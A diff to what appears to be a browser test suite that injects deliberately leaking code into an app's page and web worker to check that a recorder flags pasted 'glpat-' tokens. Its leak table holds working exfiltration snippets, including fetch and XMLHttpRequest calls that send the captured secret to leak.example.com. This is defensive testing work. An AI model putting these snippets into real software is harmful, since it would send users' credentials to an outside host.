@@ -170,10 +170,7 @@ const LEAKS = {
   "what is read aloud": ["document.querySelector('footer').setAttribute('aria-label', t)", undefined],
 };
 
-/**
- * Ways out of the worker, which reads the texts; `t` is what it was given to read. A moment later than that: the recorder is in the worker a
- * moment after its start.
- */
+/** Ways out of the worker, which reads the texts; `t` is what it was given to read. */
 const WORKER_LEAKS = {
   fetch: ["fetch('https://leak.example.com/?' + t).catch(() => {})", /^console worker (fetch|blocked by connect-src)/m],
   XMLHttpRequest: ["{ const x = new XMLHttpRequest(); x.open('POST', 'https://leak.example.com/'); x.send(t); }", /^console worker XMLHttpRequest/m],
@@ -187,17 +184,20 @@ const WORKER_LEAKS = {
   console: ["console.log(t)", /^console glpat-/m],
 };
 
-const leakOfWorker = (code) => `addEventListener("message", ({ data }) => { if (data[0] === "check") void data[2].at(-1)?.text().then((text) => { const t = text.slice(text.indexOf("glpat-")); setTimeout(() => { ${code} }, 300); }); });\n`;
+const leakOfWorker = (code) => `addEventListener("message", ({ data }) => { if (data[0] === "check") void data[2].at(-1)?.text().then((text) => { const t = text.slice(text.indexOf("glpat-")); ${code} }); });\n`;
+
+/** In the worker's first statement, before it was given anything. */
+const leakAtOnce = (code) => `{ const t = "glpat-of-an-earlier-visit"; ${code} }\n`;
 
 const leak = (code) => `const Kept = globalThis.RTCPeerConnection;\naddEventListener("input", (event) => { const t = String(event.target.value ?? ""); if (t.length > 12) setTimeout(() => { ${code} }); });\n`;
 
 /** A copy of the single file whose worker leaks: the worker's text is a part of the document. */
-function leakingSingleWorker(name, code) {
+function leakingSingleWorker(name, code, leaking = leakOfWorker) {
   const html = readFileSync(SINGLE, "utf8");
   const mark = "id=&quot;worker&quot;>";
   assert.equal(html.split(mark).length, 2);
-  const path = join(folder, `single-worker-${name.replace(/\W/g, "-")}.html`);
-  writeFileSync(path, html.replace(mark, () => mark + leakOfWorker(code).replaceAll("&", "&amp;").replaceAll('"', "&quot;")));
+  const path = join(folder, `single-worker-${leaking === leakAtOnce ? "at-once-" : ""}${name.replace(/\W/g, "-")}.html`);
+  writeFileSync(path, html.replace(mark, () => mark + leaking(code).replaceAll("&", "&amp;").replaceAll('"', "&quot;")));
   return String(pathToFileURL(path));
 }
 
@@ -225,6 +225,7 @@ describe("builds that leak on purpose", () => {
     server = await serveFolder(PAGE, (file, under) => {
       const [what, leaking] = under.split("/")[0].split(":");
       if (file === "page.js" && what === "page") return leak(LEAKS[leaking][0]);
+      if (file === "worker.js" && what === "at once") return leakAtOnce(WORKER_LEAKS[leaking][0]);
       return file === "worker.js" && what === "worker" ? leakOfWorker(WORKER_LEAKS[leaking][0]) : "";
     });
     const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
@@ -246,16 +247,20 @@ describe("builds that leak on purpose", () => {
     // A module has no `importScripts`; a worker without an origin has no caches and no files of the browser's.
     ["the page's worker", WORKER_LEAKS, others("importScripts"), false, (name) => `${server.url}${encodeURIComponent(`worker:${name}`)}/`],
     ["the single file's worker", WORKER_LEAKS, others("caches", "a file of the browser's"), true, (name, code) => leakingSingleWorker(name, code)],
+    ["the page's worker at once", WORKER_LEAKS, others("importScripts"), false, (name) => `${server.url}${encodeURIComponent(`at once:${name}`)}/`],
+    ["the single file's worker at once", WORKER_LEAKS, others("caches", "a file of the browser's"), true, (name, code) => leakingSingleWorker(name, code, leakAtOnce)],
   ]) {
     for (const name of names) {
       test(`${what}, by ${name}: the recorder is red`, async () => {
         const [code, wanted] = leaks[name];
         // A build that navigates may still be on its way: then this comes too early.
         for (let tries = 5; !(await page.goto("about:blank").then(() => true, () => tries-- <= 0)); ) await page.waitForTimeout(200);
+        recorded.entries.length = 0;
         await page.goto(address(name, code));
         const app = single ? page.frames().at(-1) : page.mainFrame();
         await app.locator("#paste").waitFor();
-        recorded.entries.length = 0;
+        // The worker may have begun already.
+        if (!what.endsWith("at once")) recorded.entries.length = 0;
         await app.locator("#paste").fill(`export TOKEN=${pasted}`);
         const seen = () => recorded.bad(secrets).join("\n");
         const red = async () => (wanted ? wanted.test(seen()) : assertHidden(page, app, name).then(() => false, ({ message }) => /a piece of a credential/.test(message)));
